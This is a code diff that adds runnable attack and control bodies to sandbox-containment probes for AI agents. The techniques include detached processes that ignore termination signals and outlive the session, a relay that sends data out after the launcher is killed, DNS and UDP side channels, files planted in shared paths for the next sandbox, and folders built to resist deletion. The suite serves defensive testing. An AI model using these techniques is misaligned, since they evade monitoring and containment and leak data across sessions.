@@ -1,6 +1,143 @@
-import type { Probe } from './probe.ts';
+import { spawn, type ChildProcess } from 'node:child_process';
+import { randomUUID } from 'node:crypto';
+import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { homedir } from 'node:os';
+import { join } from 'node:path';
+import { setTimeout as sleep } from 'node:timers/promises';
+import type { Targets } from '../arena/targets.ts';
+import { ofAllProcesses } from '../guest/processes.ts';
+import {
+  all,
+  allowedRequest,
+  carryHome,
+  datagram,
+  interfaces,
+  proxy,
+  question,
+  sendTo,
+} from '../guest/wire.ts';
+import { inCorner } from '../guest/work.ts';
+import type { Attempt, Probe } from './probe.ts';
 
 /** The end of a bottle, and what it might leave. */
+
+/** A process with no parent here, no environment, no terminal, deaf to what can be refused; it ends after a minute at most. */
+function outlive(nonce: string): ChildProcess {
+  const wait = 'n=0; while [ $n -lt 60 ]; do n=$((n+1)); sleep 1; done';
+  const child = spawn('sh', ['-c', `trap '' TERM HUP INT QUIT PIPE; ${wait}`, nonce], {
+    env: { PATH: process.env['PATH'] },
+    stdio: 'ignore',
+    detached: true,
+  });
+  child.unref();
+  return child;
+}
+
+async function expectSeen(nonce: string): Promise<void> {
+  await sleep(100);
+  if (!ofAllProcesses('cmdline').includes(nonce)) throw new Error('an own process is not seen');
+}
+
+/** Waits for a word in the workspace and sends it by every way: the host writes it there when the launcher has been killed. */
+const VOICE = `
+  const { existsSync, readFileSync } = require('node:fs');
+  const { connect } = require('node:net');
+  const [path, way] = process.argv.slice(1);
+  const { host, port, line } = JSON.parse(way);
+  const send = (word) => {
+    const socket = connect({ host, port }, () => socket.write(line.replace('WORD', word)));
+    socket.on('error', () => undefined).on('data', () => socket.destroy());
+  };
+  for (const name of ['SIGTERM', 'SIGHUP', 'SIGINT']) process.on(name, () => undefined);
+  let beats = 0;
+  setInterval(() => {
+    if ((beats += 1) > 600) process.exit();
+    if (existsSync(path)) send(readFileSync(path, 'utf8').trim());
+  }, 100);
+`;
+
+function voice(t: Targets, name: string): void {
+  const [line, headers] = allowedRequest(t, 'WORD');
+  const way = { ...proxy(), line: [line].concat(headers, 'Connection: close', '', '').join('\r\n') };
+  const args = ['-e', VOICE, inCorner(t, name), JSON.stringify(way)];
+  spawn(process.execPath, args, { detached: true, stdio: 'ignore' }).unref();
+}
+
+/** By every way there may be; those that are open need no gateway. */
+const byAnyWay: Attempt = (t, nonce) => {
+  const firsts = interfaces().flatMap(({ first }) => first ?? []);
+  const hosts = [...new Set([...t.addresses.ip4, ...firsts])];
+  return all([
+    carryHome(t, nonce),
+    datagram('udp4', { port: 53, address: proxy().host }, question(`${nonce}.${t.names.asked}`)),
+    ...hosts.map((host) => sendTo({ host, port: t.port }, nonce)),
+    ...hosts.map((address) => datagram('udp4', { port: t.port, address }, nonce)),
+  ]);
+};
+
+/** Places that could be the next bottle's too. Of the workspace one that `apply` never brings back: what it does is the next one's by right. */
+const places = (): string[] => [
+  '/tmp',
+  '/var/tmp',
+  '/dev/shm',
+  '/run',
+  homedir(),
+  join(homedir(), '.cache'),
+  '/work/node_modules',
+];
+
+function plantEverywhere(name: string, text: string): void {
+  const planted = places().filter((place) => {
+    try {
+      mkdirSync(place, { recursive: true });
+      writeFileSync(join(place, name), text);
+      return true;
+    } catch {
+      return false; // not for this user
+    }
+  });
+  if (planted.length === 0) throw new Error('no place could be written');
+}
+
+async function findAndCarry(t: Targets, name: string): Promise<void> {
+  const found = places().flatMap((place) => {
+    try {
+      return [readFileSync(join(place, name), 'utf8')];
+    } catch {
+      return [];
+    }
+  });
+  if (found.length === 0) throw new Error('nothing was there');
+  await all(found.map((word) => carryHome(t, word)));
+}
+
+/** Deeper than PATH_MAX: made from inside, a step at a time. */
+function makeDeep(dir: string): void {
+  const name = 'd'.repeat(200);
+  const before = process.cwd();
+  process.chdir(dir);
+  for (let depth = 0; depth < 30; depth += 1) {
+    mkdirSync(name);
+    process.chdir(name);
+  }
+  process.chdir(before);
+}
+
+/** Folders that are hard to remove: that may not be entered, too deep for a path, with names that are not text. */
+const stubborn: Attempt = (t, nonce) => {
+  const home = process.getuid?.() === 0 ? [] : [homedir()]; // it is the agent's
+  for (const place of [inCorner(t, '.'), ...home]) {
+    const dir = join(place, `stubborn-${nonce}`);
+    mkdirSync(dir, { recursive: true });
+    makeDeep(dir);
+    const raw = Buffer.concat([Buffer.from(`${dir}/`), Buffer.from([0xff, 0x0a, 0xfe])]);
+    mkdirSync(raw);
+    writeFileSync(Buffer.concat([raw, Buffer.from('/x')]), nonce);
+    mkdirSync(join(dir, 'closed/in'), { recursive: true });
+    writeFileSync(join(dir, 'closed/in/file'), nonce);
+    for (const closed of ['closed/in', 'closed']) chmodSync(join(dir, closed), 0);
+  }
+};
 
 const end = {
   family: 'life',
@@ -17,6 +154,7 @@ export const LIFE: readonly Probe[] = [
     oracle: { kind: 'end', sees: 'heard' },
     breach: 'goes out unjudged',
     source: 'a way out that is left when its guard is gone: test/e2e/gateway-lost.test.ts',
+    run: { attack: byAnyWay, control: byAnyWay },
   },
   {
     ...end,
@@ -25,6 +163,7 @@ export const LIFE: readonly Probe[] = [
     attack: 'go out when the launcher has been killed',
     oracle: { kind: 'end', sees: 'heard' },
     breach: 'works on unwatched',
+    run: { attack: (t) => voice(t, 'word'), control: (t) => voice(t, 'honest-word') },
   },
   {
     ...end,
@@ -34,6 +173,21 @@ export const LIFE: readonly Probe[] = [
     oracle: { kind: 'end', sees: 'process' },
     control: 'said',
     breach: 'works on unwatched',
+    run: {
+      attack: (_t, nonce) => {
+        outlive(nonce);
+        return expectSeen(nonce);
+      },
+      // The same, ended by us.
+      control: async (_t, nonce) => {
+        const child = outlive(nonce);
+        try {
+          await expectSeen(nonce);
+        } finally {
+          child.kill('SIGKILL');
+        }
+      },
+    },
   },
   {
     ...end,
@@ -42,6 +196,18 @@ export const LIFE: readonly Probe[] = [
     attack: 'leave files to the next bottle',
     oracle: { kind: 'end', sees: 'heard' },
     breach: 'reaches the next agent, and its secrets',
+    run: {
+      // In the first bottle it is left, in the next one looked for.
+      attack: async (t, nonce) => {
+        if (t.isNext) await findAndCarry(t, `left-${nonce}`);
+        else plantEverywhere(`left-${nonce}`, nonce);
+      },
+      control: async (t, nonce) => {
+        const name = `own-${randomUUID()}`;
+        plantEverywhere(name, nonce);
+        await findAndCarry(t, name);
+      },
+    },
   },
   {
     ...end,
@@ -51,5 +217,6 @@ export const LIFE: readonly Probe[] = [
     oracle: { kind: 'end', sees: 'left' },
     control: 'said',
     breach: 'fills the disk, and leaves what others come upon',
+    run: { attack: stubborn, control: stubborn },
   },
 ];
